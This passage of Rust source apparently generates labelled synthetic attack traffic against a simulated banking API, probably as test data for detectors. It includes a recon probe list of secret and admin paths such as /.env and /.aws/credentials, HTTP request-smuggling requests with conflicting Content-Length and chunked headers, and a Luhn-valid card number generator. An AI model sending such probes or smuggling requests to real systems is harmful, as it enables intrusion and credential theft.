        let start = calls.first().map_or(t, |c| c.at);
        let end = calls.last().map_or(t, |c| c.at);
        self.connections(calls, 5, Some(server));
        if let Some(s) = self.plan.sessions.last_mut() {
            s.client = SocketAddr::new(client, 0);
        }
        let (method, route) = if v == 0 {
            ("GET", Op::Accounts.route())
        } else {
            ("POST", Op::Login.route())
        };
        self.label(
            start,
            end,
            Meta {
                kind: AlertKind::CleartextCredentials,
                client: Some(client),
                method: Some(method),
                route: Some(route),
                description: format!(
                    "{client} talks straight to 10.9.0.5:80 (no load balancer, no TLS) with {}",
                    if v == 0 {
                        "Basic auth"
                    } else {
                        "a login password"
                    }
                ),
            },
        )
    }

    fn error_spike(&mut self, t: Timestamp, v: u32) -> Timestamp {
        let (op, share, status) = if v == 0 {
            (Op::Transfer, 0.45, 503)
        } else {
            (Op::Transactions, 0.5, 500)
        };
        let end = t.add(secs(120));
        self.plan.faults.push(Fault {
            method: op.method(),
            route: op.route(),
            from: t,
            to: end,
            share,
            status,
        });
        self.label(
            t,
            end.add(Duration::from_nanos(0)),
            Meta {
                kind: AlertKind::ErrorSpike,
                client: None,
                method: Some(op.method()),
                route: Some(op.route()),
                description: format!(
                    "{} {} answers {status} to {:.0}% of ordinary users' calls for 120 s",
                    op.method(),
                    op.route(),
                    share * 100.0
                ),
            },
        )
    }

    fn recon(&mut self, t: Timestamp, v: u32) -> Timestamp {
        const KNOWN: &[&str] = &[
            "/.env",
            "/wp-login.php",
            "/.git/config",
            "/admin.php",
            "/phpmyadmin/",
            "/server-status",
            "/actuator/env",
            "/actuator/health",
            "/.aws/credentials",
            "/config.json",
            "/backup.zip",
            "/db.sql",
            "/swagger.json",
            "/v2/api-docs",
            "/api/swagger-ui.html",
            "/.DS_Store",
            "/wp-admin/",
            "/xmlrpc.php",
            "/cgi-bin/test.cgi",
            "/console",
            "/debug/pprof/",
            "/.svn/entries",
            "/api/v1/debug",
            "/api/v1/users",
            "/api/v1/config",
            "/api/v1/admin",
            "/api/internal",
            "/graphiql",
            "/metrics",
            "/jolokia/list",
        ];
        let ip = IpAddr::V4(Ipv4Addr::new(192, 0, 2, 140 + v as u8));
        let ua = if v == 0 {
            "curl/8.10.1"
        } else {
            "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"
        };
        let words = [
            "backup", "old", "test", "dev", "staging", "tmp", "private", "export", "legacy", "beta",
        ];
        let mut paths: Vec<String> = KNOWN.iter().map(|s| s.to_string()).collect();
        for (i, w) in words.iter().enumerate() {
            paths.push(format!("/api/v1/{w}"));
            paths.push(format!("/{w}/index.php"));
            paths.push(format!("/api/{w}/v{}", i + 1));
            paths.push(format!("/{w}.tar.gz"));
        }
        let mut calls = Vec::new();
        for (i, p) in paths.iter().take(66 + v as usize * 4).enumerate() {
            let at = t.add(ms(i as u64 * 500 + self.r.below(100)));
            let xff = ip.to_string();
            let h = [
                ("User-Agent", ua),
                ("Accept", "*/*"),
                ("X-Forwarded-For", xff.as_str()),
            ];
            calls.push(Call {
                at,
                request: request("GET", p, &h, &[]),
                response: Self::json_resp(404, &json!({"error": "not_found"}), at),
            });
        }
        let n = calls.len();
        self.finish(calls, 40, Meta {
            kind: AlertKind::ReconScan,
            client: Some(ip),
            method: None,
            route: None,
            description: format!("{n} distinct nonexistent paths (/.env, /wp-login.php, ...) at 2 a second, all 404"),
        })
    }

    fn protocol(&mut self, t: Timestamp, v: u32) -> Timestamp {
        let u = self.actor(Role::Customer, 3_150 - v * 40);
        let xff = u.home.to_string();
        let acct = u.accounts.first().copied().unwrap_or(0);
        let body = json!({"from": acct, "to": 10_000_230, "amount": 20.0, "currency": "EUR", "memo": "Groceries"}).to_string();
        let mut calls = Vec::new();
        let (route, what) = match v {
            0 | 1 => {
                for i in 0..2u64 {
                    let at = t.add(secs(i * 5));
                    let token = format!("Bearer {}", self.bank.jwt(u, at));
                    let mut req = format!("POST /api/v1/transfers HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: {}\r\nAuthorization: {token}\r\nX-Forwarded-For: {xff}\r\nContent-Type: application/json\r\n", u.user_agent);
                    let framed = if v == 0 {
                        let chunked = format!("{:x}\r\n{body}\r\n0\r\n\r\n", body.len());
                        req.push_str(&format!(
                            "Content-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n{chunked}",
                            chunked.len()
                        ));
                        req
                    } else {
                        req.push_str(&format!(
                            "Content-Length: {}\r\nContent-Length: {}\r\n\r\n{body}",
                            body.len(),
                            body.len() + 7
                        ));
                        req
                    };
                    calls.push(Call {
                        at,
                        request: framed.into_bytes(),
                        response: Self::json_resp(400, &json!({"error": "bad_request"}), at),
                    });
                }
                (
                    Some(Op::Transfer.route()),
                    if v == 0 {
                        "2 transfers with both Content-Length and Transfer-Encoding: chunked"
                    } else {
                        "2 transfers with two differing Content-Length headers"
                    },
                )
            }
            _ => {
                for i in 0..3u64 {
                    let at = t.add(secs(i * 3));
                    let mut b = json!({"from": acct, "to": 10_000_230, "amount": 20.0, "currency": "EUR", "memo": "Groceries"});
                    b["memo"] = json!("Groceries and more groceries ".repeat(20));
                    let e = self.bank.benign(&mut self.r, u, Op::Transfer, at);
                    calls.push(Call {
                        at,
                        request: self.user_req(
                            u,
                            u.home,
                            at,
                            ("POST", "/api/v1/transfers"),
                            b.to_string().as_bytes(),
                        ),
                        response: e.response,
                    });
                }
                (
                    None,
                    "TCP segments of a keep-alive connection overlap with different bytes",
                )
            }
        };
        let start = calls.first().map_or(t, |c| c.at);
        let end = calls.last().map_or(t, |c| c.at);
        // One connection per smuggling request (the server closes after a 400); the overlap
        // incident uses one connection with small segments so overlaps fall inside requests.
        let per_conn = if v == 2 { 5 } else { 1 };
        let before = self.plan.sessions.len();
        self.connections(calls, per_conn, None);
        if v == 2 {
            for s in self.plan.sessions.iter_mut().skip(before) {
                s.mss = Some(256);
                s.impair.overlap_diff = 0.6;
            }
        }
        self.label(
            start,
            end,
            Meta {
                kind: AlertKind::ProtocolAnomaly,
                client: Some(u.home),
                method: route.map(|_| "POST"),
                route,
                description: format!("u-{}: {what}", u.id),
            },
        )
    }
}

/// A Luhn-valid 16-digit card number starting with `prefix`.
pub fn luhn_pan(r: &mut Rng, prefix: &str) -> String {
    let mut digits: Vec<u8> = prefix
        .bytes()
        .filter(u8::is_ascii_digit)
        .map(|b| b - b'0')
        .collect();
    while digits.len() < 15 {
        digits.push(r.below(10) as u8);
    }
    // With a 0 in the check position the sum is short of a multiple of 10 by the check digit.
    digits.push(0);
    let check = (10 - luhn_sum(&digits) % 10) % 10;
    if let Some(last) = digits.last_mut() {
        *last = check as u8;
    }
    digits.iter().map(|d| char::from(b'0' + d)).collect()
}

/// Whether a digit string passes the Luhn check.
pub fn luhn_valid(s: &str) -> bool {
    let digits: Vec<u8> = s
        .bytes()
        .filter(u8::is_ascii_digit)
        .map(|b| b - b'0')
        .collect();
    !digits.is_empty() && luhn(&digits)
}

fn base64_std(data: &[u8]) -> String {
    let url = crate::synth::api::base64url(data);
    let mut s: String = url
        .chars()
        .map(|c| match c {
            '-' => '+',
            '_' => '/',
            c => c,
        })
        .collect();
    while s.len() % 4 != 0 {
        s.push('=');
    }
    s
}

type Incident<'a> = fn(&mut Ctx<'a>, Timestamp, u32) -> Timestamp;

/// Every incident of the attack capture, in the order they happen: one round of every kind,
/// a second round, then third variants of the kinds with three shapes.
pub fn plan(bank: &Bank, seed: u64, start: Timestamp) -> Plan {
    let mut ctx = Ctx {
        bank,
        r: Rng::new(seed).fork(0x6174_7461_636b),
        plan: Plan::default(),
        counts: HashMap::new(),
        used: Vec::new(),
    };
    let round: [Incident<'_>; 18] = [
        Ctx::bola,
        Ctx::bruteforce,
        Ctx::travel,
        Ctx::mass_assignment,
        Ctx::excessive,
        Ctx::sensitive,
        Ctx::volume,
        Ctx::graphql,
        Ctx::bfla,
        Ctx::injection,
        Ctx::parameter,
        Ctx::shadow,
        Ctx::deprecated,
        Ctx::secret,
        Ctx::cleartext,
        Ctx::error_spike,
        Ctx::recon,
        Ctx::protocol,
    ];
    let third: [Incident<'_>; 3] = [Ctx::injection, Ctx::secret, Ctx::protocol];
    let mut t = start.add(secs(LEAD_SECS));
    for v in 0..2 {
        for f in round {
            t = f(&mut ctx, t, v).add(secs(GAP_SECS));
        }
    }
    for f in third {
        t = f(&mut ctx, t, 2).add(secs(GAP_SECS));
    }
    ctx.plan.sessions.sort_by_key(|s| s.start);
    ctx.plan
}
